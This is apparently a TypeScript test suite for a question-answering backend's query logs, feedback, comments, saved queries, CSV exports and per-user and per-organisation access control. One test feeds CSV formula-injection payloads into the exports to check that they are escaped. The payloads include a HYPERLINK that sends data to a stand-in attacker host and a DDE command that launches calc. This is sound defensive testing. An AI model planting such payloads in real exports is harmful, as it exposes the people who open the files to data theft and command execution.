import { parse } from 'csv-parse/sync'
import { beforeAll, expect, it } from 'vitest'
import { forEachStorage, publishArticles } from '../../testing/test-backend'

forEachStorage('query logs, feedback, comments and saved queries', ({ server }) => {
  let logId: number

  beforeAll(async () => {
    await publishArticles(server(), [{ title: 'Bicycle lights', content: 'Bicycle lights must be switched on between sunset and sunrise.' }])
    const asked = await server().call('/ask_qa', { method: 'POST', body: { command: 'When must bicycle lights be on?' } })
    logId = asked.body.log_id
  })

  it('records feedback as like or dislike, from words, numbers or booleans', async () => {
    const liked = await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 'like' } })
    expect(liked.body).toMatchObject({ success: true, message: 'Feedback sent', result: { id: logId, feedback: 'like' } })
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 'false' } })).body.result.feedback).toBe('dislike')
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 1 } })).body.result.feedback).toBe('like')
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: 999999, feedback: 'like' } })).status).toBe(404)
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 'great' } })).body.details[0].field).toBe('feedback')
  })

  it('filters the logs by status', async () => {
    const liked = await server().call('/query_logs?status=liked')
    expect(liked.body.result.map((log: { id: number }) => log.id)).toContain(logId)
    const disliked = await server().call('/query_logs?status=disliked')
    expect(disliked.body.result.map((log: { id: number }) => log.id)).not.toContain(logId)
    expect((await server().call('/query_logs?status=happy')).status).toBe(400)
    // The questions the knowledge base had no answer for.
    const unanswered = await server().call('/ask_qa', { method: 'POST', body: { command: 'What is the recipe for lemon drizzle cake?' } })
    const notFound = (await server().call('/query_logs?status=not%20found')).body.result.map((log: { id: number }) => log.id)
    expect([notFound.includes(unanswered.body.log_id), notFound.includes(logId)]).toEqual([true, false])
  })

  it('adds, updates and deletes the main comment and the comment list, answering the changed log', async () => {
    const added = await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: logId, comment: 'Check the law' } })
    expect(added.body).toMatchObject({ message: 'Comment added', result: { comment: 'Check the law', has_comment: true, comment_id: logId } })
    expect((await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: logId, comment: 'Checked' } })).body.message).toBe('Comment updated')

    const listed = await server().call('/query_logs/comments', { method: 'POST', body: { log_id: logId, comment: 'A second opinion' } })
    const entry = listed.body.result.comment_list[0]
    expect(entry).toMatchObject({ comment: 'A second opinion', has_comment: true, comment_id: entry.id })
    const edited = await server().call('/query_logs/comments', { method: 'PUT', body: { id: entry.id, comment: 'A third opinion' } })
    expect(edited.body.result.comment_list[0].comment).toBe('A third opinion')

    const commented = await server().call('/query_logs?status=commented')
    expect(commented.body.result.map((log: { id: number }) => log.id)).toContain(logId)

    const removed = await server().call(`/query_logs/comments?id=${entry.id}`, { method: 'DELETE' })
    expect(removed.body).toMatchObject({ message: 'Comment deleted', result: { comment_list: [] } })
    expect((await server().call(`/query_logs/comments?id=${entry.id}`, { method: 'DELETE' })).status).toBe(404)
    const cleared = await server().call(`/query_logs/comment?log_id=${logId}`, { method: 'DELETE' })
    expect(cleared.body.result).toMatchObject({ comment: null, has_comment: false })
  })

  it('keeps saved queries per user, updates them and deletes them', async () => {
    const saved = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: 'for the newsletter' } })
    expect(saved.body).toMatchObject({ success: true, error: null })
    const again = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: 'updated', id: saved.body.id } })
    expect(again.body.id).toBe(saved.body.id)
    const list = await server().call('/query_logs/query_favorites')
    expect(list.body.result).toEqual([expect.objectContaining({ id: saved.body.id, log_id: logId, comment: 'updated', command: 'When must bicycle lights be on?' })])

    const other = await server().createUser('user')
    expect((await server().call('/query_logs/query_favorites', { as: other })).body.result).toEqual([])
    expect((await server().call(`/query_logs/delete_query_favorite?id=${saved.body.id}`, { method: 'DELETE', as: other })).status).toBe(404)

    expect((await server().call(`/query_logs/delete_query_favorite?id=${saved.body.id}`, { method: 'DELETE' })).body.success).toBe(true)
    expect((await server().call('/query_logs/query_favorites')).body.result).toEqual([])
  })

  it('changes and deletes an entry of the comment list through add_query_favorite and delete_query_favorite with comment_list_id', async () => {
    const listed = await server().call('/query_logs/comments', { method: 'POST', body: { log_id: logId, comment: 'Needs the law article' } })
    const entryId = listed.body.result.comment_list.at(-1).id as number
    const favoritesBefore = (await server().call('/query_logs/query_favorites')).body.result.length

    const changed = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: 'Cite article 61', id: null, comment_list_id: entryId } })
    expect(changed.body).toEqual({ success: true, message: 'Comment updated', error: null, id: entryId })
    const log = (await server().call(`/query_logs/query_log?log_id=${logId}`)).body.result[0]
    expect(log.comment_list).toContainEqual(expect.objectContaining({ id: entryId, comment_id: entryId, has_comment: true, comment: 'Cite article 61' }))
    // It changed the comment, and saved no query.
    expect((await server().call('/query_logs/query_favorites')).body.result).toHaveLength(favoritesBefore)

    const otherLog = (await server().call('/ask_qa', { method: 'POST', body: { command: 'Are bicycle bells required?' } })).body.log_id
    const elsewhere = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: otherLog, comment: 'x', comment_list_id: entryId } })
    expect(elsewhere.status).toBe(404)
    const blank = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: '  ', comment_list_id: entryId } })
    expect(blank.status).toBe(400)
    expect((await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: 'x', comment_list_id: 'first' } })).status).toBe(400)
    const user = await server().createUser('user')
    const refused = await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: logId, comment: 'mine', comment_list_id: entryId }, as: user })
    expect(refused.status).toBe(403)
    expect((await server().call(`/query_logs/delete_query_favorite?comment_list_id=${entryId}`, { method: 'DELETE', as: user })).status).toBe(403)

    const deleted = await server().call(`/query_logs/delete_query_favorite?comment_list_id=${entryId}`, { method: 'DELETE' })
    expect(deleted.body).toEqual({ success: true, message: 'Comment deleted' })
    expect((await server().call(`/query_logs/query_log?log_id=${logId}`)).body.result[0].comment_list.map((entry: { id: number }) => entry.id)).not.toContain(entryId)
    expect((await server().call(`/query_logs/delete_query_favorite?comment_list_id=${entryId}`, { method: 'DELETE' })).status).toBe(404)
    expect((await server().call('/query_logs/delete_query_favorite', { method: 'DELETE' })).status).toBe(400)
    expect((await server().call(`/query_logs/delete_query_favorite?id=1&comment_list_id=${entryId}`, { method: 'DELETE' })).status).toBe(400)
  })

  it('answers a log by id, and GET /answer gives its answer', async () => {
    const one = await server().call(`/query_logs/query_log?log_id=${logId}`)
    expect(one.body.result).toHaveLength(1)
    const answer = await server().call(`/answer?log_id=${logId}`)
    expect(answer.body).toMatchObject({ success: true, log_id: logId, command: 'When must bicycle lights be on?' })
    expect(answer.body.result).toContain('sunset')
    expect((await server().call('/answer?log_id=999999')).status).toBe(404)
  })

  it('exports query_logs.csv and the dataset CSV as text/csv', async () => {
    // The reason given with the feedback goes with it into the logs' CSV.
    await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 'dislike', reason: 'Says nothing about dynamo lights' } })
    const csv = await server().call('/query_logs/query_log_csv')
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(csv.headers.get('content-disposition')).toContain('query_logs.csv')
    expect(String(csv.body).split('\n')[0]).toBe('id,timestamp,user,mode,status,question,answer,sources,related,feedback,feedback_reason,comments,duration_ms')
    expect(String(csv.body)).toContain('When must bicycle lights be on?')
    expect(String(csv.body)).toMatch(/,dislike,Says nothing about dynamo lights,/)

    const dataset = await server().call('/admin/query_log_ds_csv')
    expect(dataset.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(String(dataset.body).split('\n')[0]).toBe('question,answer,sources,feedback,comments')
    expect(String(dataset.body)).toContain('Bicycle lights')
  })

  it('escapes cells a spreadsheet would run as a formula, in both CSV exports', async () => {
    const payloads = ['=HYPERLINK("http://attacker.test/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd']
    for (const [index, payload] of payloads.entries()) {
      const asked = await server().call('/ask_qa', { method: 'POST', body: { command: `${payload} bicycle lights` } })
      expect(asked.status).toBe(200)
      await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: asked.body.log_id, comment: `${payloads[(index + 1) % payloads.length]} note` } })
    }
    // Requests trim leading tabs and line breaks from questions; an answer or an older row may still start with one.
    await server().backend.db.query(`INSERT INTO query_logs (command, answer, status, comment) VALUES ($1, $2, 'answered', $3)`, ['\t=1+1 tab', '\r=2+2 return', '-3 minus'])
    for (const response of [await server().call('/query_logs/query_log_csv'), await server().call('/admin/query_log_ds_csv')]) {
      const cells = (parse(String(response.body)) as string[][]).slice(1).flat()
      for (const payload of payloads) {
        expect(cells).toContain(`'${payload} bicycle lights`)
        expect(cells).toContain(`'${payload} note`)
      }
      expect(cells).toEqual(expect.arrayContaining(["'\t=1+1 tab", "'\r=2+2 return", "'-3 minus"]))
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    }
  })

  it('keeps a plain user to their own logs: another user can neither read, give feedback on nor save them; an editor of the organisation can read them', async () => {
    const owner = await server().createUser('user')
    const stranger = await server().createUser('user')
    const editor = await server().createUser('editor')
    const asked = await server().call('/ask_qa', { method: 'POST', body: { command: 'Do bicycle lights need to flash?' }, as: owner })
    const ownLog = asked.body.log_id as number
    await server().call('/query_logs/comment', { method: 'PUT', body: { log_id: ownLog, comment: 'Internal: answer is vague' } })
    await server().call('/query_logs/comments', { method: 'POST', body: { log_id: ownLog, comment: 'Internal: add the law article' } })
    const feedbackBefore = (await server().call(`/query_logs/query_log?log_id=${ownLog}`)).body.result[0].feedback

    const missing = { success: false, error: 'Not Found', message: `No query log ${ownLog}` }
    expect(await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: stranger })).toMatchObject({ status: 404, body: missing })
    expect(await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'dislike' }, as: stranger })).toMatchObject({ status: 404, body: missing })
    expect((await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: ownLog, comment: 'mine now' }, as: stranger })).status).toBe(404)
    expect((await server().call(`/answer?log_id=${ownLog}`, { as: stranger })).status).toBe(404)
    expect((await server().call('/ask_qa_answer', { method: 'POST', body: { task_id: asked.body.task_id }, as: stranger })).status).toBe(404)
    expect((await server().call(`/query_logs/query_log?log_id=${logId}`, { as: owner })).status).toBe(404)
    expect((await server().call(`/query_logs/query_log?log_id=${ownLog}`)).body.result[0].feedback).toBe(feedbackBefore)

    // The owner reads and rates their own question, without the editors' comments on it.
    const own = await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: owner })
    expect(own.body.result[0]).toMatchObject({ id: ownLog, command: 'Do bicycle lights need to flash?', comment: null, comment_list: [], has_comment: false })
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'like' }, as: owner })).body.result).toMatchObject({ feedback: 'like', comment: null })
    expect((await server().call('/query_logs/add_query_favorite', { method: 'POST', body: { log_id: ownLog, comment: 'keep' }, as: owner })).status).toBe(200)

    // An editor of the organisation reads it, comments included, and can rate it.
    const read = await server().call(`/query_logs/query_log?log_id=${ownLog}`, { as: editor })
    expect(read.body.result[0]).toMatchObject({ id: ownLog, comment: 'Internal: answer is vague', comment_list: [expect.objectContaining({ comment: 'Internal: add the law article' })] })
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: ownLog, feedback: 'dislike' }, as: editor })).status).toBe(200)
  })

  it("keeps each organisation's logs to itself; administrators see all", async () => {
    const [{ id: otherOrganization }] = await server().backend.db.query<{ id: number }>(
      `INSERT INTO organizations (name) VALUES ('Other org ' || floor(random() * 1e9)::text) RETURNING id`,
    )
    await server().backend.db.query(
      `INSERT INTO groups (organization_id, name, role) VALUES ($1, 'Editors', 'editor'), ($1, 'Users', 'user')`,
      [otherOrganization],
    )
    const outsider = await server().createUser('editor', { organizationId: otherOrganization })
    const ownAsk = await server().call('/ask_qa', { method: 'POST', body: { command: 'Outsider question about bicycle lights' }, as: outsider })

    const theirs = await server().call('/query_logs?limit=500', { as: outsider })
    expect(theirs.body.result.map((log: { id: number }) => log.id)).toEqual([ownAsk.body.log_id])
    expect((await server().call(`/query_logs/query_log?log_id=${logId}`, { as: outsider })).status).toBe(404)
    expect((await server().call('/ask_qa_feedback', { method: 'PUT', body: { log_id: logId, feedback: 'dislike' }, as: outsider })).status).toBe(404)
    expect(String((await server().call('/query_logs/query_log_csv', { as: outsider })).body)).not.toContain('When must bicycle lights be on?')

    const insider = await server().createUser('editor')
    const ours = await server().call('/query_logs?limit=500', { as: insider })
    expect(ours.body.result.map((log: { id: number }) => log.id)).not.toContain(ownAsk.body.log_id)

    const all = await server().call('/query_logs?limit=500')
    expect(all.body.result.map((log: { id: number }) => log.id)).toEqual(expect.arrayContaining([logId, ownAsk.body.log_id]))
  })
})
